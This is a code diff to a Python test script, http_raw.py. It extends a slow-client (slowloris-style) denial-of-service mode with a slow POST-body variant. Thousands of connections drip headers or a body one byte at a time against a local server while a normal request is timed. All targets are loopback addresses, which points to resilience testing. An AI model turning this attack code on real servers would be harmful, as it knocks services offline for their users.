@@ -6,11 +6,12 @@
       back until the server closes or 10 s pass, then "[closed]" when the server
       closed the connection (or "[open]").
   http_raw.py slow PORT --conns N --sources 127.0.0.2-9 [--drip S] [--seconds S]
-               [--header-timeout S] [--reopen 0|1]
+               [--header-timeout S] [--reopen 0|1] [--body N]
       A slow-client attack: N connections spread over the source addresses,
       each sending request headers one byte at a time (one byte every --drip
       seconds), reopened when the server closes them (unless --reopen 0), for at
-      most --seconds. Once
+      most --seconds. With --body N, each sends complete headers of a POST with
+      Content-Length N at once and then the body a byte at a time. Once
       all are open (or tried), a normal GET /api/version from 127.0.0.1 is timed.
       Prints one JSON object: conns_open (at the normal request), normal_s (its
       time, null when it got no answer before the attack ended), closed_by_server,
@@ -92,7 +93,14 @@ class Slow:
             self.sock = None
 
 
-def slow(port, conns, sources, drip, seconds, header_timeout, reopen):
+def slow(port, conns, sources, drip, seconds, header_timeout, reopen, body):
+    head = HEAD
+    if body:
+        head = (b"POST /api/show HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n" % body)
+        first = len(head)
+        head += b" " * body
+    else:
+        first = 1
     t0 = time.monotonic()
     end = t0 + seconds
     slows = [Slow(port, sources[i % len(sources)]) for i in range(conns)]
@@ -130,8 +138,8 @@ def slow(port, conns, sources, drip, seconds, header_timeout, reopen):
                 server_closed(c)
                 continue
             try:
-                c.sock.send(HEAD[c.sent:c.sent + 1])
-                c.sent += 1
+                k = first if c.sent == 0 else 1
+                c.sent += c.sock.send(head[c.sent:c.sent + k])
             except BlockingIOError:
                 pass
             except OSError:
@@ -202,13 +210,13 @@ def main():
     if len(sys.argv) >= 3 and sys.argv[1] == "slow":
         port = int(sys.argv[2])
         opts = {"--conns": "2000", "--sources": "127.0.0.2-9", "--drip": "1",
-                "--seconds": "60", "--header-timeout": "0", "--reopen": "1"}
+                "--seconds": "60", "--header-timeout": "0", "--reopen": "1", "--body": "0"}
         args = sys.argv[3:]
         for i in range(0, len(args) - 1, 2):
             opts[args[i]] = args[i + 1]
         slow(port, int(opts["--conns"]), parse_sources(opts["--sources"]),
              float(opts["--drip"]), float(opts["--seconds"]), float(opts["--header-timeout"]),
-             opts["--reopen"] != "0")
+             opts["--reopen"] != "0", int(opts["--body"]))
         return
     sys.exit(__doc__)
 
